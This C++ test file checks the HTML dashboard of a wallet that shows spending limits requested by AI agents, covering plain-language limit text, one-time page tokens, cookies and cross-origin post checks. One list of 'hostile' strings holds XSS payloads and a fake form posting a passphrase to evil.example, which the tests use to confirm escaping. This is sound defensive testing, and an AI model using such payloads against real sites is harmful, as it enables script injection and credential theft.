#include "dashboard/page_guard.hpp"
#include "dashboard/page_tokens.hpp"
#include "dashboard/pages.hpp"
#include "evm/address.hpp"
#include "views.hpp"

#include <catch2/catch.hpp>

using namespace bursar;
using namespace bursar::dashboard;

namespace
{
bool holds(const Html& page, std::string_view text)
{
    return page.text().find(text) != std::string::npos;
}

std::string term(const std::vector<Term>& terms, std::string_view label)
{
    for (const auto& one : terms)
        if (one.label == label)
            return one.text;
    return "(no such term)";
}

bool is_wide(const std::vector<Term>& terms, std::string_view label)
{
    for (const auto& one : terms)
        if (one.label == label)
            return one.wide;
    return false;
}

/// Text that a hostile agent, seller or payee could choose.
const std::vector<std::string> HOSTILE{
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</blockquote><form action=//evil.example><input name=passphrase>",
    "{{token}}",
    "&lt;script&gt;",
    "\xe2\x80\xae"
    "evil",
    std::string("nul\0byte", 8),
};
}  // namespace

TEST_CASE("an intent's page tells every signed limit in plain words")
{
    auto page = intent_page(views::wallet(), views::intent(), views::typed_data(), {"tok", ""});
    for (const auto* text :
         {"Let cmo spend up to $5.00 (USDC) each week?", "at most $0.05 (USDC)", "only at api.example.com",
          "market data", "from 21 November 2026, 09:32 UTC until 21 December 2026, 09:32 UTC",
          "base-sepolia (chain 84532)", "Why, in the agent’s own words", "value=\"tok\"",
          "name=\"passphrase\" type=\"password\"", "0x036CbD53842c5426634e7929541eC2318f3dCF7e"})
    {
        INFO(text);
        CHECK(holds(page, text));
    }
    CHECK(holds(page, views::intent().digest.hex()));
    CHECK_FALSE(holds(page, "Look twice"));
    CHECK_FALSE(holds(page, "role=\"alert\""));
}

TEST_CASE("limits that allow a lot are named before the decision")
{
    auto intent = views::intent();
    intent.terms.hosts.clear();
    intent.terms.payment_max.reset();
    auto page = intent_page(views::wallet(), intent, views::typed_data(), {"tok", ""});
    CHECK(holds(page, "Look twice"));
    CHECK(holds(page, "<li>Where: any website or API</li>"));
    CHECK(holds(page, "<li>Each payment: up to the whole budget at once</li>"));
}

TEST_CASE("each signed field has its words")
{
    auto wallet = views::wallet();
    auto terms = views::intent().terms;
    CHECK(budget_in_words(terms, wallet) == "$5.00 (USDC) each week");
    terms.period = policy::Period::once;
    CHECK(budget_in_words(terms, wallet) == "$5.00 (USDC) in total");
    terms.period = policy::Period::day;

    CHECK(term(describe(terms, wallet), "How many") == "any number within the budget");
    terms.count_max = 1;
    CHECK(term(describe(terms, wallet), "How many") == "at most 1 payment each day");
    terms.rate = policy::RateLimit{10, 3600};
    CHECK(term(describe(terms, wallet), "How many") ==
          "at most 1 payment each day, and at most 10 in any 1 hour");

    CHECK(term(describe(terms, wallet), "Asks you first") == "never because of the amount");
    terms.ask_above = Units{20'000};
    CHECK(term(describe(terms, wallet), "Asks you first") == "before any payment above $0.02 (USDC)");

    terms.new_payee = policy::NewPayee::deny;
    CHECK(term(describe(terms, wallet), "New payees") == "refused: only payees that were paid before");
    terms.rails = {policy::Rail::x402};
    CHECK(term(describe(terms, wallet), "Ways to pay") == "x402 (a token transfer per payment)");
    terms.categories = {"data", "news"};
    CHECK(term(describe(terms, wallet), "What for") == "only data, news");
    terms.payees = {*Address::parse("0x036cbd53842c5426634e7929541ec2318f3dcf7e")};
    CHECK(term(describe(terms, wallet), "Who is paid") == "only 0x036CbD53842c5426634e7929541eC2318f3dCF7e");

    CHECK_FALSE(is_wide(describe(terms, wallet), "Where"));
    terms.hosts = {"*.example.com"};
    CHECK(term(describe(terms, wallet), "Where") == "only at *.example.com (every name below example.com)");
    CHECK(is_wide(describe(terms, wallet), "Where"));
    terms.hosts = {"xn--pi-7kc.example"};
    CHECK(is_wide(describe(terms, wallet), "Where"));
    CHECK_FALSE(is_wide(describe(terms, wallet), "Valid"));
    terms.valid_until = terms.valid_from.plus_seconds(365 * 86400);
    CHECK(is_wide(describe(terms, wallet), "Valid"));
}

TEST_CASE("an amount in another token is not written as dollars")
{
    auto wallet = views::wallet();
    auto terms = views::intent().terms;
    terms.asset.chain = ChainId{1};
    CHECK(budget_in_words(terms, wallet) ==
          "5000000 base units of token 0x036CbD53842c5426634e7929541eC2318f3dCF7e on chain 1 each week");
    CHECK(is_wide(describe(terms, wallet), "Money"));
}

TEST_CASE("hostile text stays text on every page")
{
    for (const auto& text : HOSTILE)
    {
        INFO(text);
        auto intent = views::intent();
        intent.terms.purpose = text;
        intent.terms.hosts = {text};
        intent.terms.categories = {text};
        intent.agent_name = text;
        auto approval = views::approval();
        approval.host = approval.url = text;
        approval.reasons[0].actual = text;
        auto agent = views::agent();
        agent.name = text;
        auto payment = views::payment();
        payment.host = payment.url = text;
        wire::TypedData typed{"{\"purpose\":\"" + text + "\"}", intent.digest};
        StartView start{views::wallet(), {intent},        {approval}, {agent},
                        {payment},       payment.created, "tok",      text};
        for (const auto& page : {intent_page(views::wallet(), intent, typed, {"tok", text}),
                                 start_page(start), agent_page(agent, {"tok", text}),
                                 approval_page(views::wallet(), intent, approval, {"tok", text}),
                                 message_page(text, text, text)})
        {
            CHECK_FALSE(holds(page, "<script>"));
            CHECK_FALSE(holds(page, "<img src=x"));
            CHECK_FALSE(holds(page, "onerror=alert(1)>"));
            CHECK_FALSE(holds(page, "' onmouseover='"));
            CHECK_FALSE(holds(page, "<form action"));
        }
    }
}

TEST_CASE("direction tricks and control characters never reach the owner's eyes")
{
    auto intent = views::intent();
    intent.terms.purpose = "pay \xe2\x80\xae"
                           "elpoep\xe2\x80\xac and \x07 more";
    auto page = intent_page(views::wallet(), intent, views::typed_data(), {"tok", ""});
    CHECK_FALSE(holds(page, "\xe2\x80\xae"));
    CHECK_FALSE(holds(page, "\x07"));
}

TEST_CASE("no page holds inline script, inline style or an address elsewhere")
{
    StartView start{views::wallet(),
                    {views::intent()},
                    {views::approval()},
                    {views::agent()},
                    {views::payment()},
                    views::payment().created,
                    "tok",
                    ""};
    for (const auto& page :
         {intent_page(views::wallet(), views::intent(), views::typed_data(), {"tok", "wrong"}),
          start_page(start), agent_page(views::agent(), {"tok", ""}),
          approval_page(views::wallet(), views::intent(), views::approval(), {"tok", ""})})
    {
        CHECK_FALSE(holds(page, "style="));
        CHECK_FALSE(holds(page, "<style"));
        CHECK_FALSE(holds(page, " onclick"));
        CHECK_FALSE(holds(page, "src=\"http"));
        CHECK_FALSE(holds(page, "{{"));
        CHECK(holds(page, "<html lang=\"en\">"));
        CHECK(holds(page, "name=\"viewport\""));
    }
}

TEST_CASE("a failed try keeps the page, says so to screen readers, and never echoes the passphrase field")
{
    auto page = intent_page(views::wallet(), views::intent(), views::typed_data(),
                            {"tok", "That is not the passphrase."});
    CHECK(holds(page, "role=\"alert\""));
    CHECK(holds(page, "That is not the passphrase."));
    CHECK(holds(page, "aria-invalid=\"true\""));
    CHECK(holds(page, "market data"));
}

TEST_CASE("a decided intent or payment shows what became of it, without forms")
{
    for (auto state :
         {policy::IntentState::active, policy::IntentState::rejected, policy::IntentState::revoked,
          policy::IntentState::expired, policy::IntentState::exhausted})
    {
        auto intent = views::intent();
        intent.state = state;
        auto page = intent_page(views::wallet(), intent, views::typed_data(), {"tok", ""});
        CHECK_FALSE(holds(page, "<form"));
        CHECK(holds(page, "class=\"done\""));
        CHECK_FALSE(holds(page, "?</h1>"));
    }
    auto approval = views::approval();
    approval.state = "granted";
    auto page = approval_page(views::wallet(), views::intent(), approval, {"tok", ""});
    CHECK_FALSE(holds(page, "<form"));
    CHECK(holds(page, "This request is granted."));
}

TEST_CASE("a payment that waits shows amount, payee, place and the rule")
{
    auto page = approval_page(views::wallet(), views::intent(), views::approval(), {"tok", ""});
    CHECK(holds(page, "Pay $0.04 (USDC) to api.example.com?"));
    CHECK(holds(page, "0.04 USDC is more than 0.03 USDC, from where you want to be asked."));
    CHECK(holds(page, "https://api.example.com/v1/report?q=1"));
    CHECK(holds(page, evm::checksummed(views::approval().payee)));
}

TEST_CASE("a ledger line reads as a person would say it")
{
    CHECK(ledger_line(views::payment(), views::wallet()) == "09:32 api.example.com/v1/chat -$0.14");
}

TEST_CASE("the start page lists what waits, budgets with a revoke button, and payments by day")
{
    auto draft = views::intent();
    auto active = views::intent();
    active.state = policy::IntentState::active;
    active.posted = Units{140'000};
    auto agent = views::agent();
    agent.state = "active";
    StartView view{views::wallet(),
                   {draft, active},
                   {views::approval()},
                   {agent},
                   {views::payment()},
                   views::payment().created,
                   "tok",
                   ""};
    auto page = start_page(view);
    CHECK(holds(page, "$20.00 (USDC)"));
    CHECK(holds(page, "action=\"/revoke/" + active.id.text()));
    CHECK(holds(page, "action=\"/freeze/" + agent.id.text()));
    CHECK(holds(page, "href=\"/approve/" + views::approval().id.text()));
    CHECK(holds(page, "$0.14 spent"));
    CHECK(holds(page, "21 November 2026, today (times in UTC)"));
    CHECK(holds(page, "09:32 api.example.com/v1/chat -$0.14"));
}

TEST_CASE("a page token is good once, for its browser, its subject and half an hour")
{
    PageTokens tokens;
    Time now = Time::from_seconds(1000);
    auto issue = [&]
    {
        return tokens.issue("cookie", "intent a", now);
    };
    auto token = issue();
    CHECK(tokens.redeem(token, "cookie", "intent a", now));
    CHECK_FALSE(tokens.redeem(token, "cookie", "intent a", now));
    CHECK_FALSE(tokens.redeem(issue(), "other", "intent a", now));
    CHECK_FALSE(tokens.redeem(issue(), "", "intent a", now));
    CHECK_FALSE(tokens.redeem(issue(), "cookie", "intent b", now));
    CHECK_FALSE(tokens.redeem(issue(), "cookie", "intent a", now.plus_seconds(TOKEN_AGE_SECONDS_MAX)));
    CHECK_FALSE(tokens.redeem("", "cookie", "intent a", now));
    token = issue();
    for (std::size_t i = 0; i < TOKENS_MAX; ++i)
        tokens.issue("cookie", "intent a", now.plus_seconds(1));
    CHECK_FALSE(tokens.redeem(token, "cookie", "intent a", now));
}

TEST_CASE("only our own cookie is read, the one of the nearest path first")
{
    auto a = std::string(32, 'a');
    auto b = std::string(32, 'b');
    CHECK(find_cookie("x=1; bursar_page=" + a + "; bursar_page=" + b) == a);
    CHECK(find_cookie("bursar_page=short") == "");
    CHECK(find_cookie("bursar_page=" + std::string(32, 'X')) == "");
    CHECK(find_cookie("") == "");
    CHECK(set_cookie(a, "/approve/x").find("HttpOnly; SameSite=Strict") != std::string::npos);
}

TEST_CASE("a post of another origin, another type or inside a frame is not a post of ours")
{
    serve::Request request;
    request.fields.add("Host", "localhost:8420");
    request.fields.add("Content-Type", "application/x-www-form-urlencoded");
    request.body = "a=1";
    CHECK(posted_form(request));
    request.fields.set("Sec-Fetch-Site", "same-origin");
    request.fields.set("Origin", "http://localhost:8420");
    CHECK(posted_form(request));
    request.fields.set("Origin", "http://localhost:3000");
    CHECK_FALSE(posted_form(request));
    request.fields.set("Origin", "null");
    CHECK_FALSE(posted_form(request));
    request.fields.set("Origin", "http://localhost:8420");
    request.fields.set("Sec-Fetch-Site", "same-site");
    CHECK_FALSE(posted_form(request));
    request.fields.set("Sec-Fetch-Site", "same-origin");
    request.fields.set("Content-Type", "text/plain");
    CHECK_FALSE(posted_form(request));
    CHECK_FALSE(is_framed(request));
    request.fields.set("Sec-Fetch-Dest", "iframe");
    CHECK(is_framed(request));
}
